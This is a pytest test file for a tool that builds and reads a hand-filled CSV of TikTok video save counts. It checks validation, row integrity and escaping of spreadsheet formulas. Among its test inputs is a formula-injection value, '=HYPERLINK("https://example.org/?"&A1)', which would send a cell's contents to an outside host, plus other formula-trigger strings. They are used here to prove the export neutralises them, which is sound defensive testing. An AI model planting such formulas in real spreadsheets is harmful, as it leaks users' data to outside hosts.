"""Saves filled in by hand: checked when typed, and read like any other file."""

import csv
import io

import pandas as pd
import pytest

from worthsaving.reading import read_files
from worthsaving.writing import fill_in

LINK = "https://www.tiktok.com/@cook/video/75274521129810690{:02d}"


def videos(make_videos):
    return make_videos(
        platform=["tiktok"] * 3,
        video_id=[f"75274521129810690{n:02d}" for n in (10, 11, 12)],
        account=["cook"] * 3,
        link=[LINK.format(10), LINK.format(11), ""],
        title=["=SUM(A1)", "Soup", "No link"],
        views=[100, 500, 900],
    )


def test_the_sheet_holds_what_can_be_joined(make_videos):
    """Only videos without saves and with a link, most viewed first, none of them pretending 0."""
    sheet = fill_in.sheet(videos(make_videos))
    assert sheet["Which video"].tolist() == ["Soup", "=SUM(A1)"]
    assert sheet["Saves"].isna().all()


def test_untitled_videos_are_told_apart_by_their_day(make_videos):
    """Whoever types needs to know which video is meant, also where it has no caption."""
    posted = pd.to_datetime(["2026-11-05", "2026-02-08", None], utc=True)
    table = videos(make_videos).assign(title=["", " ", ""], posted_at=posted)
    assert fill_in.sheet(table)["Which video"].tolist() == ["Untitled, 8 Feb 2026", "Untitled, 5 Nov 2026"]


@pytest.mark.parametrize("link", ['=HYPERLINK("https://example.org/?"&A1)', "@SUM(A1)", "+1+1", "-1", "\tx"])
def test_no_link_is_a_formula(make_videos, link):
    """A sheet that is opened in a spreadsheet runs nothing, also where the file put a formula for a link."""
    table = videos(make_videos)
    table["link"] = table["link"].mask([True, False, False], link)
    sheet = fill_in.sheet(table)
    assert sheet["Which video"].tolist() == ["Soup"]
    cells = [cell for row in csv.reader(io.StringIO(fill_in.as_csv(sheet).decode("utf-8-sig"))) for cell in row]
    assert not [cell for cell in cells if cell[:1] in set("=@+-\t\r")]


def test_a_video_with_known_saves_is_not_asked_for(make_videos):
    """What a file already says is not typed again."""
    table = videos(make_videos).assign(saves=pd.array([1, None, None], dtype="Int64"))
    assert fill_in.sheet(table)["Which video"].tolist() == ["Soup"]


def test_impossible_saves_are_named_and_left_out(make_videos):
    """Negative, broken and more than the views: a sentence each, and not used."""
    sheet = fill_in.sheet(videos(make_videos))
    checked = fill_in.check(sheet.assign(Saves=[501.0, 1.5]))
    assert checked.saves.isna().all()
    assert len(checked.faults) == 2
    assert "501 saves on 500 views" in checked.faults[0]


@pytest.mark.parametrize(
    ("views", "saves", "says"),
    [
        (1_500_000, 2_000_000.0, "“Soup”: 2,000,000 saves on 1,500,000 views can't be right. Type"),
        (500, 5.5, "“Soup”: 5.5 saves on 500 views can't be right. Type"),
        (None, -3.0, "“Soup”: -3 saves can't be right. Type a whole number from 0 up."),
    ],
)
def test_a_fault_names_the_numbers_as_they_were_typed(make_videos, views, saves, says):
    """Every digit is there, and views that nobody knows are not spoken of."""
    sheet = fill_in.sheet(make_videos(link=["x"], title=["Soup"], views=[views]))
    (fault,) = fill_in.check(sheet.assign(Saves=[saves])).faults
    assert fault.startswith(says)


def test_a_blank_stays_unknown(make_videos):
    """Blank is not zero."""
    checked = fill_in.check(fill_in.sheet(videos(make_videos)).assign(Saves=[7.0, None]))
    assert checked.saves.tolist() == [7, pd.NA]
    assert checked.faults == ()


@pytest.mark.parametrize(
    "title", ["a lone\rcarriage return", "two\nlines", "\r\nboth", 'say "hi", you', "=SUM(A1)", "'quoted", " 🍜 ", "\r"]
)
def test_a_caption_never_tears_its_row(make_videos, title):
    """Whatever stands in a caption, the sheet has one row a video with the saves in their place."""
    sheet = fill_in.sheet(videos(make_videos).assign(title=[title, "Soup", "No link"]))
    data = fill_in.as_csv(sheet.assign(Saves=pd.array([7, 3], dtype="Int64")))
    assert data.startswith(b"\xef\xbb\xbf")
    reading = read_files([(fill_in.FILE_NAME, data)])
    (file,) = reading.files
    assert (file.rows, file.kept) == (2, 2)
    assert sorted(zip(reading.videos["views"], reading.videos["saves"], strict=True)) == [(100, 3), (500, 7)]


def test_the_sheet_is_harmless_in_a_spreadsheet(make_videos):
    """A caption that would run as a formula has an apostrophe before it; a blank stays blank and no 0."""
    rows = list(
        csv.reader(io.StringIO(fill_in.as_csv(fill_in.sheet(videos(make_videos))).decode("utf-8-sig"), newline=""))
    )
    assert rows[0] == ["Video link", "Which video", "Views", "Saves"]
    assert [row[1:] for row in rows[1:]] == [["Soup", "500", ""], ["'=SUM(A1)", "100", ""]]


def test_the_filled_sheet_joins_its_videos(make_videos):
    """The file made from the table is read like any other: saves arrive at the right videos, views stay."""
    sheet = fill_in.sheet(videos(make_videos)).assign(Saves=pd.array([7, None], dtype="Int64"))
    rows = (
        '"Time","Video title","Video link","Post time","Total likes","Total comments","Total shares","Total views"\n'
        f'"November 9","Soup","{LINK.format(11)}","August 4","50","4","1","500"\n'
        f'"November 9","=SUM(A1)","{LINK.format(10)}","August 4","10","1","0","100"'
    )
    reading = read_files([("Content.csv", rows.encode("utf-8-sig")), (fill_in.FILE_NAME, fill_in.as_csv(sheet))])
    assert [file.format is not None for file in reading.files] == [True, True]
    assert len(reading.videos) == 2
    got = reading.videos.set_index("title")["saves"]
    assert got["Soup"] == 7
    assert got["=SUM(A1)"] is pd.NA
